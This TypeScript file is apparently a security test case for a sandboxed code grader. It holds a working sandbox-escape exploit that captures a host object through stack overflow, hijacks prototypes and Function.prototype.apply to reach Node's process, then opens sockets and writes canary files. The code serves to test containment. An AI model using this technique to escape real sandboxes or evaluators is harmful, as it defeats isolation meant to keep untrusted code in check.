// 101-host-accessors [escape]
// Tries: as 87; then lays accessors on the prototypes of Node's side and waits for Node to look something up
// A correct grader must report: wrong or forbidden or crash. No host object, no socket, no connection.
let H: any = null; let proc: any = null; let st = '';
const root = (x: any) => { let r = x; for (let p = x; p !== null; p = Object.getPrototypeOf(p)) r = p; return r; };
const foreign = (x: any) => ((typeof x === 'object' && x !== null) || typeof x === 'function') && root(x) !== Object.prototype && root(x) !== x;
const take = (x: any) => { if (H === null && foreign(x)) H = x; };
const pwn = () => { if (!proc || st) return; st = 'PROCESS '; const t = (f: () => any) => { try { f(); } catch (e) { st += e; } };
  t(() => { const s = proc.getBuiltinModule('node:net').createServer(() => {}); s.on('error', () => {}); s.listen('/tmp/pravah-canary/pwned-101.sock'); });
  t(() => { const s = proc.getBuiltinModule('node:net').connect(18999, '127.0.0.1'); s.on('error', () => {}); });
  t(() => proc.getBuiltinModule('node:fs').writeFileSync('/tmp/pravah-canary/pwned-101', 'x')); };
const climb = () => { if (!H) return; try { let F: any = H; while (F && typeof F !== 'function') F = F.constructor; let FP = F; while (Object.getPrototypeOf(FP) !== root(FP)) FP = Object.getPrototypeOf(FP);
  const apply = FP.apply; FP.apply = function (self: any, args: any) { if (self && typeof self.getBuiltinModule === 'function') { proc = self; FP.apply = apply; pwn(); } return Reflect.apply(this, self, args ?? []); }; Promise.reject(1); } catch (e) { st += 'climb ' + e; } };
const errors: Error[] = []; for (let i = 0; i < 3000; i++) errors.push(new Error('x'));
let i = 0; function rec(): void { try { rec(); } catch (e) { if (i >= 2500) return; try { void errors[i++]!.stack; } catch (x) { H ??= x instanceof Error ? null : x; } throw e; } }
rec();
const see = (x: any) => { try { if (x && typeof x.getBuiltinModule === 'function') { proc = x; pwn(); } if (x && x.process) see(x.process); } catch {} };
if (H) { const HO: any = root(H); for (const k of ['signal', 'domain', 'fd', 'then', 'get', 'set', 'value', 'handle', 'owner', 'cause', 'name', 'options', 'timeout', 'handler', 'encoding', 'stdio']) try { Object.defineProperty(HO, k, { configurable: true, get(this: any) { see(this); return undefined; }, set(this: any, v: any) { see(this); see(v); Object.defineProperty(this, k, { value: v, writable: true, configurable: true }); } }); } catch (e) { st += 'acc '; break; } }
Promise.reject(1); await 0;
export function relu(_x: number[]): number[] { climb(); throw new Error('H=' + (H !== null) + ' ' + st); }
export function reluBackward(_d: number[], _x: number[]): number[] { pwn(); throw new Error('H=' + (H !== null) + ' ' + st); }
